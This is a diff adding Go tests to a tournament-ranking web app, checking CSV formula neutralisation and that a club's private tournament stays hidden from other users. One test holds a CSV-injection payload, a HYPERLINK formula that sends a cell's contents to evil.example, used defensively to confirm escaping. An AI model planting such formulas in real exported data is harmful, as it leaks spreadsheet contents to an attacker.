@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/csv"
 	"encoding/json"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
@@ -341,5 +342,158 @@ func TestSplitAndMergeFromTheConsole(t *testing.T) {
 	}
 	if rec := o.do(http.MethodPost, "/admin/players/merge", url.Values{"into": {anna}, "from": {anna}}); rec.Code != http.StatusUnprocessableEntity {
 		t.Errorf("merging a player with itself: %d", rec.Code)
+	}
+}
+
+// TestTheSeriesCSVNeutralizesItsHeader: a tournament named like a formula
+// heads its columns in the series CSV as text, as a player's name is.
+func TestTheSeriesCSVNeutralizesItsHeader(t *testing.T) {
+	f := newFixture(t)
+	org, se := f.cup()
+	ctx := context.Background()
+	snap, err := f.store.Snapshot(ctx, se.Parts[0].TournamentID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Cup")`
+	if _, _, err := f.store.Write(ctx, snap, func(s *tournament.Snapshot) (*tournament.Change, error) {
+		renamed := *s.Tournament
+		renamed.Name, renamed.Rev = formula, tournament.NextRev(s.Tournament.Rev)
+		return &tournament.Change{Tournament: &renamed}, nil
+	}); err != nil {
+		t.Fatal(err)
+	}
+	rec := f.get("/o/"+org.Slug+"/series/"+se.ID+"/table.csv", "")
+	lines, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
+	if rec.Code != 200 || err != nil || len(lines) == 0 {
+		t.Fatalf("csv %d %v", rec.Code, err)
+	}
+	named := 0
+	for _, cell := range lines[0] {
+		if strings.Contains(cell, "HYPERLINK") {
+			named++
+			if !strings.HasPrefix(cell, "'=") {
+				t.Errorf("header cell %q reads as a formula", cell)
+			}
+		}
+	}
+	if named == 0 {
+		t.Errorf("the header does not name the renamed tournament: %q", lines[0])
+	}
+}
+
+// privateClub is a table soccer club whose only tournament is private (a
+// copy of the demo's training night), with its players registered and a
+// series of it; it returns the club, its token, one registered player who
+// played and the series.
+func (f *fixture) privateClub() (tournament.Organizer, string, string, string) {
+	f.t.Helper()
+	ctx := context.Background()
+	org := tournament.Organizer{ID: "org_private", Slug: "private-club", Name: "Private Club", Sport: tournament.TableSoccer}
+	if err := f.store.PutOrganizer(ctx, org); err != nil {
+		f.t.Fatal(err)
+	}
+	night, err := f.store.Snapshot(ctx, f.tournament("Club Training Night").Tournament.ID)
+	if err != nil {
+		f.t.Fatal(err)
+	}
+	raw, _ := json.Marshal(night.Tournament)
+	var tt tournament.Tournament
+	_ = json.Unmarshal(raw, &tt)
+	tt.ID, tt.OrganizerID, tt.Public = "t_private_only", org.ID, false
+	var entries []*tournament.Entry
+	for _, e := range night.Entries {
+		entries = append(entries, e)
+	}
+	if err := f.store.PutTournament(ctx, &tt, night.Matches, entries); err != nil {
+		f.t.Fatal(err)
+	}
+	snap, err := f.store.Snapshot(ctx, tt.ID)
+	if err != nil {
+		f.t.Fatal(err)
+	}
+	var players []tournament.RegisteredPlayer
+	links := map[string]string{}
+	for i, pe := range tournament.PlayerEntries(snap) {
+		p := tournament.RegisteredPlayer{ID: fmt.Sprintf("pl_private%02d", i), Name: "Secret " + pe.Name}
+		players = append(players, p)
+		links[tournament.LinkKey(tt.ID, pe.EntryID)] = p.ID
+	}
+	if err := f.store.LinkPlayers(ctx, org.ID, players, links); err != nil {
+		f.t.Fatal(err)
+	}
+	d := tt.Disciplines[0]
+	se := tournament.Series{ID: "se_private", Name: "Members Cup", Class: tournament.ClassLocal, Parts: []tournament.SeriesPart{{TournamentID: tt.ID, DisciplineID: d.ID}}}
+	if err := f.store.PutSeries(ctx, org.ID, se); err != nil {
+		f.t.Fatal(err)
+	}
+	token, _, err := f.store.CreateToken(ctx, org.ID, "")
+	if err != nil {
+		f.t.Fatal(err)
+	}
+	rk, err := f.store.Rankings(ctx, org.ID)
+	if err != nil {
+		f.t.Fatal(err)
+	}
+	for _, p := range players {
+		if len(rk.Register.LinksOf(p.ID)) > 0 {
+			return org, token, p.ID, se.ID
+		}
+	}
+	f.t.Fatal("nobody of the private night played")
+	return org, "", "", ""
+}
+
+// TestAnOrganizersPrivateTournamentReachesNoRanking: a club's only tournament
+// is private. Anonymous visitors, another organizer (its token and its
+// console) and a public key of the sport find none of its players, ratings,
+// rated matches or chart points on any ranking page or JSON; the club's own
+// token and console see them all.
+func TestAnOrganizersPrivateTournamentReachesNoRanking(t *testing.T) {
+	f := newFixture(t)
+	org, token, pid, seriesID := f.privateClub()
+	secret := "Secret "
+	pages := []string{"/o/" + org.Slug + "/ratings", "/o/" + org.Slug + "/players/" + pid, "/o/" + org.Slug + "/series/" + seriesID,
+		"/o/" + org.Slug + "/series/" + seriesID + "/tv", "/o/" + org.Slug + "/series/" + seriesID + "/table.csv"}
+	api := "/v1/courtside/organizers/" + org.ID
+	jsons := []string{api + "/ratings", api + "/players/" + pid, api + "/series", api + "/series/" + seriesID}
+
+	other, _ := f.signIn(f.bouleToken)
+	own, _ := f.signIn(token)
+	for _, p := range pages {
+		for who, get := range map[string]func() *httptest.ResponseRecorder{
+			"a visitor":                 func() *httptest.ResponseRecorder { return f.get(p, "") },
+			"another organizer's login": func() *httptest.ResponseRecorder { return other.do(http.MethodGet, p, nil) },
+		} {
+			rec := get()
+			if rec.Code == http.StatusOK && strings.Contains(rec.Body.String(), secret) || strings.Contains(rec.Body.String(), "Rated matches") && rec.Code == http.StatusOK && strings.Contains(p, "/players/") {
+				t.Errorf("%s reads a private player on %s: %d", who, p, rec.Code)
+			}
+		}
+		if rec := own.do(http.MethodGet, p, nil); rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), secret) && !strings.Contains(p, "/series/") {
+			t.Errorf("the club's own console on %s: %d", p, rec.Code)
+		}
+	}
+	for _, p := range jsons {
+		for who, key := range map[string]string{"another organizer's token": f.bouleToken, "a public key": f.publicKicker} {
+			rec := f.get(p, key)
+			if rec.Code == http.StatusOK && (strings.Contains(rec.Body.String(), secret) || strings.Contains(rec.Body.String(), `"rating":15`)) {
+				t.Errorf("%s reads a private player on %s: %s", who, p, rec.Body)
+			}
+		}
+		if rec := f.get(p, token); rec.Code != http.StatusOK {
+			t.Errorf("the club's own token on %s: %d", p, rec.Code)
+		}
+	}
+	var ratings []handlers.RatingJSON
+	if err := json.Unmarshal(f.get(api+"/ratings", token).Body.Bytes(), &ratings); err != nil || len(ratings) == 0 || !strings.HasPrefix(ratings[0].Name, secret) {
+		t.Errorf("the club's own token sees %v (%v)", ratings, err)
+	}
+	var p handlers.PlayerJSON
+	if err := json.Unmarshal(f.get(api+"/players/"+pid, token).Body.Bytes(), &p); err != nil || p.Games == 0 || len(p.History) == 0 {
+		t.Errorf("the club's own token sees the player %+v (%v)", p, err)
+	}
+	if doc := rankedPage(t, own.do(http.MethodGet, "/o/"+org.Slug+"/players/"+pid, nil)); doc.Find("svg title").Length() == 0 && !strings.Contains(doc.Text(), "Rated matches") {
+		t.Error("the club's console shows no rating on the player's page")
 	}
 }
